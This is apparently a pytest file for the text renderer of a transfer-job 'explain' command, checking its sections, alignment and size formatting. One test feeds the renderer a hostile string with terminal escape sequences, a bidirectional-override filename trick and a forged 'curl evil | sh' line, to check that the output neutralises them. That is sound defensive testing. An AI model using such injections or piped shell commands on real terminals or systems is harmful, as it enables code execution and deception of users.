"""The text for people: complete, aligned, and nothing in it that a terminal would obey."""

from __future__ import annotations

import pytest
from explain_jobs import NOW, TRANSFERRING, condition, explained, job, running

from fairlead.commands.explain.account import account_of
from fairlead.commands.explain.facts import Facts, JobEvent
from fairlead.commands.explain.text import render, size

EXPECTED = """\
TransferJob bio/run42: Transferring, 50 %, created 10m0s ago

Conditions
  Accepted     True  Valid          5m0s  as it is
  Scheduled    True  PodsScheduled  5m0s  as it is
  MoversReady  True  MoversRunning  5m0s  as it is
  PathProbed   True  Probed         5m0s  as it is
  CapEnforced  True  WithinCap      5m0s  as it is

Placement
  from  dtn-a  data0 198.18.0.1  raw:/run42  run42-sender-2
  to    dtn-b  data0 198.18.0.2  scratch:/   run42-receiver-2
  network  Host

Bandwidth
  asks for     weight 100
  cap          100M, held by Pacing
  measured     97M, 97% of the cap
  bound by     link uplink, which is the fullest on its way
  link uplink  1G, 900M of it for jobs, 898M given, 20M others'; 7 jobs cross it, 3 more wait
  tenant bio   2 jobs with 200M together, 1 more wait

Path
  this job          RTT 60.2ms, least 60.0ms, loss 0.001
  dtn-a-dtn-b-1234  RTT 60.213ms, background not known, one transfer got 450M, declared 1G, probed 5m0s ago

Decision
  in force    TCP, bbr, 4 streams
  because     Classified: BBR is there
  background  B1-C0 with 0.93, any BBR 0.97
  confidence  0.88
  rejected    cubic: less goodput beside BBR
  switched    2026-01-02T03:06:00Z cubic to bbr: BBR appeared
  decided     2026-01-02T03:05:30Z by model background-1.0.0

Progress
  bytes     1 GB of 2 GB, 100 MB of it was there already
  files     5 of 10
  rate      97M bit/s, 1m22s left, last byte 2s ago
  attempts  2, 1 failed of at most 6
  failure   attempt 1, 2026-01-02T03:02:00Z, PeerLost: the stream broke
  started   2026-01-02T03:00:10Z

Events
  2026-01-02T03:10:00Z  Normal  PathProbed    bbr over 4 streams

What to do
  do this"""


def test_a_running_job_on_a_shared_link() -> None:
    assert render(running(), ["do this"], NOW) == EXPECTED


def test_a_job_that_nobody_has_seen_has_no_empty_sections() -> None:
    text = render(explained(), ["wait"], NOW)
    assert text.startswith("TransferJob bio/run42: Unknown, created 10m0s ago\n\nPlacement\n")
    assert [line for line in text.splitlines() if line and not line.startswith(" ")][1:] == ["Placement", "Bandwidth", "What to do"]


def test_what_others_wrote_cannot_steer_the_terminal_or_forge_lines() -> None:
    evil = "\x1b]0;owned\x07\x1b[2J\u202egnp.exe\nWhat to do\n  curl evil | sh \r\x9b31m" + "x" * 10_000
    status = {**TRANSFERRING, "conditions": [condition("Accepted", "True", "Valid", evil)]}
    status["decision"] = {**TRANSFERRING["decision"], "message": evil, "alternatives": [{"congestionControl": evil, "whyNot": evil}]}
    event = JobEvent(time=None, type=evil, reason=evil, message=evil, count=3)
    text = render(account_of(Facts(job(status), (event,), not_shown=(evil,))), ["wait"], NOW)
    assert not {"\x1b", "\x07", "\r", "\x9b", "\u202e"} & set(text)
    assert text.splitlines().count("What to do") == 1
    assert max(map(len, text.splitlines())) < 2_500


def test_an_old_status_is_called_old() -> None:
    assert "the status is of an earlier spec" in render(explained({**TRANSFERRING, "observedGeneration": 1}), ["wait"], NOW)


def test_the_protocols_that_were_weighed_stand_before_the_decision() -> None:
    weighed = [
        {"protocol": "TCP", "goodput": "200M", "measurements": 2, "resent": "0.002", "cpuSecondsPerGigabyte": "4.1", "verdict": "Slower"},
        {"protocol": "QUIC", "goodput": "800M", "measurements": 1, "verdict": "Chosen"},
        {"protocol": "UDT", "measurements": 0, "verdict": "NotMeasured"},
    ]
    choice = {"protocol": "QUIC", "message": "QUIC got 800M", "weighed": weighed}
    text = render(explained({**TRANSFERRING, "engineChoice": choice}), ["do this"], NOW)
    assert (
        """
Protocol
  QUIC got 800M
  TCP   Slower       200M in 2 transfers, 0.002 resent, 4.1 CPU-s/GB
  QUIC  Chosen       800M in 1 transfer
  UDT   NotMeasured  no transfer

Decision
"""
        in text
    )


@pytest.mark.parametrize(
    ("count", "words"),
    [
        (None, "?"),
        (0, "0 B"),
        (999, "999 B"),
        (1_000, "1 kB"),
        (999_400, "999 kB"),
        (999_500, "1 MB"),
        (999_999, "1 MB"),
        (999_999_999, "1 GB"),
        (10**12 - 1, "1 TB"),
        (10**15 - 1, "1 PB"),
        (1_870_000_000, "1.87 GB"),
        (2**62, "4.61 EB"),
    ],
)
def test_a_size_has_three_figures_in_the_unit_in_which_they_are_below_a_thousand(count: int | None, words: str) -> None:
    assert size(count) == words
